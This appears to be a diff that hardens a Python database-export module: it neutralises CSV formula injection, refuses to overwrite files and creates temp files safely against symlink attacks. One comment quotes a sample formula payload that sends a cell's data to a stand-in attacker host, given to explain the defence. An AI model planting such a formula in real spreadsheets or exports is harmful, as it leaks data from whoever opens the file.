@@ -4,20 +4,27 @@ Rows are read from one cursor and written as they come (Parquet in row groups of
 `BATCH_ROWS`), so memory stays flat however large the database is. The database is opened
 read-only: an export runs beside the daemon and never blocks or changes it. Field contract
 and types: docs/reading.md.
+
+The texts are the web's, so the CSV export neutralises cells a spreadsheet would run as a
+formula (OWASP's CSV injection advice), an output file is never overwritten unless asked,
+and the temporary file is created so that nothing planted in the directory is followed.
 """
 from __future__ import annotations
 
 import contextlib
 import csv
+import errno
 import io
 import json
 import os
+import secrets
+import sqlite3
 import sys
 from collections.abc import Iterable, Iterator
 from dataclasses import fields
 from datetime import datetime
 from pathlib import Path
-from typing import IO, Any
+from typing import IO, Any, TypeVar
 
 from ingest.progress import progress as progress_line
 from ingest.records import Article, DuplicateOf, GarbleInfo, Version
@@ -28,7 +35,7 @@ from .query import (ARTICLE_FIELDS, VERSION_FIELDS, ExportFilters, ReadError, co
 
 FORMATS = ("jsonl", "csv", "parquet")
 BATCH_ROWS = 1000
-
+Row = TypeVar("Row")
 
 
 def as_dict(row: Article | Version, times_as_text: bool = True) -> dict[str, Any]:
@@ -50,21 +57,27 @@ def as_dict(row: Article | Version, times_as_text: bool = True) -> dict[str, Any
 ExportError = ReadError  # the export cannot start (missing database, schema too old, bad output)
 
 
-def export(db_path: str | Path, out: str | Path | IO, fmt: str = "jsonl", *, versions: bool = False,
-           filters: ExportFilters = ExportFilters(), progress: bool | None = None) -> int:
+def export(db_path: str | Path, out: str | Path | IO[Any], fmt: str = "jsonl", *, versions: bool = False,
+           filters: ExportFilters = ExportFilters(), progress: bool | None = None, csv_raw: bool = False,
+           force: bool = False) -> int:
     """Write matching articles (or, with `versions`, every version of them) to `out`; return rows written.
 
     `out` is a path, "-" (stdout; jsonl/csv only) or an open stream (text or binary; Parquet
     needs binary). A path is written to a temporary sibling and renamed at the end, so an
-    interrupted export never leaves a half file under the final name. `progress` None shows a
-    rich progress bar on stderr only when stderr is a terminal.
+    interrupted export never leaves a half file under the final name; an existing file is an
+    error unless `force`. CSV cells that a spreadsheet would run as a formula are prefixed with
+    "'" unless `csv_raw`. `progress` None shows a rich progress bar on stderr only when stderr
+    is a terminal.
     """
     if fmt not in FORMATS:
         raise ExportError(f"unknown format {fmt!r} (one of: {', '.join(FORMATS)})")
     if fmt == "parquet" and (out == "-" or isinstance(out, io.TextIOBase)):
         raise ExportError("parquet needs a file path or a binary stream, not stdout")
-    if isinstance(out, (str, Path)) and out != "-" and not Path(out).resolve().parent.is_dir():
-        raise ExportError(f"no directory for {out}")
+    if isinstance(out, (str, Path)) and out != "-":
+        if not Path(out).resolve().parent.is_dir():
+            raise ExportError(f"no directory for {out}")
+        if not force and os.path.lexists(out):
+            raise ExportError(f"{out} exists (--force to overwrite it)")
     conn = open_readonly(db_path)
     try:
         # One read transaction: a consistent snapshot even while the daemon writes (WAL).
@@ -76,17 +89,17 @@ def export(db_path: str | Path, out: str | Path | IO, fmt: str = "jsonl", *, ver
             progress = sys.stderr.isatty()  # a bar on a terminal only, never in logs or pipes
         with _progress(rows, conn, filters, versions, progress) as rows:
             if fmt == "parquet":
-                with _binary_out(out) as stream:
+                with _binary_out(out, force) as stream:
                     return _write_parquet(rows, stream, parquet_schema(versions))
-            with _text_out(out) as stream:
+            with _text_out(out, force) as stream:
                 if fmt == "jsonl":
                     return _write_jsonl(rows, stream)
-                return _write_csv(rows, stream, fields)
+                return _write_csv(rows, stream, fields, raw=csv_raw)
     finally:
         conn.close()
 
 
-def parquet_schema(versions: bool = False):
+def parquet_schema(versions: bool = False) -> Any:
     """The Arrow schema of the Parquet export (pyarrow is imported only when needed)."""
     import pyarrow as pa
 
@@ -94,7 +107,8 @@ def parquet_schema(versions: bool = False):
     _STRS = pa.list_(pa.string())
     ARTICLE_SCHEMA = pa.schema([
         ("id", pa.int64()), ("url", pa.string()), ("canonical_url", pa.string()), ("site", pa.string()),
-        ("page_kind", pa.string()), ("title", pa.string()), ("text", pa.string()), ("author", pa.string()), ("published", _TS),
+        ("page_kind", pa.string()), ("title", pa.string()), ("text", pa.string()), ("author", pa.string()),
+        ("published", _TS),
         ("language", pa.string()), ("first_seen", _TS), ("last_seen", _TS), ("version", pa.int64()),
         ("versions", pa.int64()), ("feeds", _STRS), ("topics", _STRS),
         ("duplicate", pa.struct([("of", pa.string()), ("kind", pa.string()), ("similarity", pa.float64()),
@@ -110,7 +124,7 @@ def parquet_schema(versions: bool = False):
     return VERSION_SCHEMA if versions else ARTICLE_SCHEMA
 
 
-def _write_jsonl(rows: Iterable, stream: IO[str]) -> int:
+def _write_jsonl(rows: Iterable[Article | Version], stream: IO[str]) -> int:
     n = 0
     for row in rows:
         stream.write(json.dumps(as_dict(row), ensure_ascii=False))
@@ -119,20 +133,35 @@ def _write_jsonl(rows: Iterable, stream: IO[str]) -> int:
     return n
 
 
-def _write_csv(rows: Iterable, stream: IO[str], fields: tuple[str, ...]) -> int:
-    """Same columns as JSON; lists and objects as JSON text, None as an empty cell."""
+# A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets (= + - @)
+# or can make one (tab, carriage return): OWASP's list for CSV injection. A title like
+# '=HYPERLINK("http://evil.example/?"&A1, "click")' would otherwise run when the file is opened.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(cell: str) -> str:
+    """OWASP's advice: a cell a spreadsheet would run as a formula gets a leading single quote,
+    which spreadsheets show as text (and hide)."""
+    return "'" + cell if cell.startswith(FORMULA_START) else cell
+
+
+def _write_csv(rows: Iterable[Article | Version], stream: IO[str], fields: tuple[str, ...],
+               raw: bool = False) -> int:
+    """Same columns as JSON; lists and objects as JSON text, None as an empty cell; text cells
+    neutralised against formulas unless `raw` (numbers are numbers: -1 is not a formula)."""
     writer = csv.writer(stream)
     writer.writerow(fields)
     n = 0
     for row in rows:
-        writer.writerow(["" if v is None else json.dumps(v, ensure_ascii=False) if isinstance(v, (list, dict)) else v
-                         for v in as_dict(row).values()])
+        cells = ["" if v is None else json.dumps(v, ensure_ascii=False) if isinstance(v, (list, dict)) else v
+                 for v in as_dict(row).values()]
+        writer.writerow(cells if raw else [neutralise(c) if isinstance(c, str) else c for c in cells])
         n += 1
     return n
 
 
-def _write_parquet(rows: Iterable, stream: IO[bytes], schema) -> int:
-    """Row groups of BATCH_ROWS rows; timestamps parsed to UTC (unparseable -> null)."""
+def _write_parquet(rows: Iterable[Article | Version], stream: IO[bytes], schema: Any) -> int:
+    """Row groups of BATCH_ROWS rows; timestamps as UTC datetimes."""
     import pyarrow as pa
     import pyarrow.parquet as pq
 
@@ -140,7 +169,7 @@ def _write_parquet(rows: Iterable, stream: IO[bytes], schema) -> int:
     n = 0
     with pq.ParquetWriter(stream, schema, compression="zstd") as writer:
         for batch in _batches(rows, BATCH_ROWS):
-            cols: dict[str, list] = {name: [] for name in names}
+            cols: dict[str, list[Any]] = {name: [] for name in names}
             for row in batch:
                 for name, value in as_dict(row, times_as_text=False).items():
                     cols[name].append(value)
@@ -149,8 +178,8 @@ def _write_parquet(rows: Iterable, stream: IO[bytes], schema) -> int:
     return n
 
 
-def _batches(rows: Iterable, size: int) -> Iterator[list]:
-    batch = []
+def _batches(rows: Iterable[Row], size: int) -> Iterator[list[Row]]:
+    batch: list[Row] = []
     for row in rows:
         batch.append(row)
         if len(batch) >= size:
@@ -161,14 +190,15 @@ def _batches(rows: Iterable, size: int) -> Iterator[list]:
 
 
 @contextlib.contextmanager
-def _progress(rows: Iterable, conn, filters, versions: bool, show: bool):
+def _progress(rows: Iterable[Row], conn: sqlite3.Connection, filters: ExportFilters, versions: bool,
+              show: bool) -> Iterator[Iterable[Row]]:
     """The rows, counted on a progress line (ingest/progress.py) when `show`."""
     if not show:
         yield rows
         return
     total = count_versions(conn, filters) if versions else count_articles(conn, filters)
     with progress_line("export", total, "versions" if versions else "articles", enabled=True) as bar:
-        def counted():
+        def counted() -> Iterator[Row]:
             for row in rows:
                 yield row
                 bar.advance()
@@ -176,12 +206,12 @@ def _progress(rows: Iterable, conn, filters, versions: bool, show: bool):
 
 
 @contextlib.contextmanager
-def _text_out(out):
+def _text_out(out: str | Path | IO[Any], force: bool) -> Iterator[IO[str]]:
     if out == "-":
         yield sys.stdout
         sys.stdout.flush()
     elif isinstance(out, (str, Path)):
-        with _atomic_path(out, "w", encoding="utf-8", newline="") as f:
+        with _atomic_path(out, "w", force, encoding="utf-8", newline="") as f:
             yield f
     elif isinstance(out, io.TextIOBase) or hasattr(out, "encoding"):
         yield out
@@ -195,22 +225,79 @@ def _text_out(out):
 
 
 @contextlib.contextmanager
-def _binary_out(out):
+def _binary_out(out: str | Path | IO[Any], force: bool) -> Iterator[IO[bytes]]:
     if isinstance(out, (str, Path)):
-        with _atomic_path(out, "wb") as f:
+        with _atomic_path(out, "wb", force) as f:
             yield f
     else:
         yield out
 
 
+_TEMP_FLAGS = os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW | getattr(os, "O_CLOEXEC", 0)
+
+
 @contextlib.contextmanager
-def _atomic_path(path: str | Path, mode: str, **kw):
-    path = Path(path)
-    tmp = path.with_name(f".{path.name}.part")
+def _atomic_path(path: str | Path, mode: str, force: bool, **kw: Any) -> Iterator[IO[Any]]:
+    """A new temporary file beside `path`, renamed to `path` when the block ends without error.
+
+    Hand-written rather than tempfile.mkstemp: the same O_CREAT|O_EXCL|O_NOFOLLOW creation under
+    an unpredictable name, but with the usual 0666 & ~umask mode (mkstemp's 0600 would make
+    the export unreadable to the group). Everything is done relative to the directory opened
+    once, so a directory swapped for a symlink meanwhile is not followed either. A name planted
+    in advance (a `.NAME.part` symlink to ~/.bashrc) is never opened: the name is random and an
+    existing one is refused (O_EXCL), a symlink included (O_NOFOLLOW). Without `force` the file
+    is linked under its final name (link() fails if the name exists), so a file created there
+    meanwhile is not replaced either. On any exception, KeyboardInterrupt included, the
+    temporary file is removed.
+    """
+    target = Path(path)
+    dir_fd = os.open(target.parent if str(target.parent) else ".", os.O_RDONLY | os.O_DIRECTORY)
+    tmp: str | None = None  # the name to remove if anything goes wrong (set before the file exists)
     try:
-        with open(tmp, mode, **kw) as f:
+        f: IO[Any] | None = None
+        for _ in range(100):
+            tmp = f".{target.name}.{secrets.token_hex(8)}.part"
+            try:
+                f = os.fdopen(os.open(tmp, _TEMP_FLAGS, 0o666, dir_fd=dir_fd), mode, **kw)
+                break
+            except FileExistsError:
+                tmp = None  # not ours: never removed
+        if f is None:  # pragma: no cover - 100 collisions of 64 random bits
+            raise ExportError(f"cannot create a temporary file beside {target}")
+        with f:
             yield f
-        os.replace(tmp, path)
+            f.flush()
+            mine = os.fstat(f.fileno())
+        assert tmp is not None
+        now = os.stat(tmp, dir_fd=dir_fd, follow_symlinks=False)
+        if (now.st_dev, now.st_ino) != (mine.st_dev, mine.st_ino):
+            raise ExportError(f"the temporary file beside {target} was replaced while writing")
+        _publish(tmp, target.name, dir_fd, force, target)
+        tmp = None
     except BaseException:
-        tmp.unlink(missing_ok=True)
+        if tmp is not None:
+            with contextlib.suppress(OSError):
+                os.unlink(tmp, dir_fd=dir_fd)
         raise
+    finally:
+        os.close(dir_fd)
+
+
+def _publish(tmp: str, name: str, dir_fd: int, force: bool, target: Path) -> None:
+    """Give the finished temporary file its final name (the temporary name is gone after)."""
+    if force:
+        os.replace(tmp, name, src_dir_fd=dir_fd, dst_dir_fd=dir_fd)
+        return
+    try:
+        os.link(tmp, name, src_dir_fd=dir_fd, dst_dir_fd=dir_fd, follow_symlinks=False)
+    except FileExistsError:
+        raise ExportError(f"{target} exists (--force to overwrite it)") from None
+    except OSError as e:
+        if e.errno not in (errno.EPERM, errno.ENOTSUP, errno.EOPNOTSUPP, errno.EXDEV, errno.EMLINK):
+            raise
+        # a file system without hard links: checked, then renamed (a tiny window, as before)
+        if os.path.lexists(target):
+            raise ExportError(f"{target} exists (--force to overwrite it)") from None
+        os.replace(tmp, name, src_dir_fd=dir_fd, dst_dir_fd=dir_fd)
+        return
+    os.unlink(tmp, dir_fd=dir_fd)
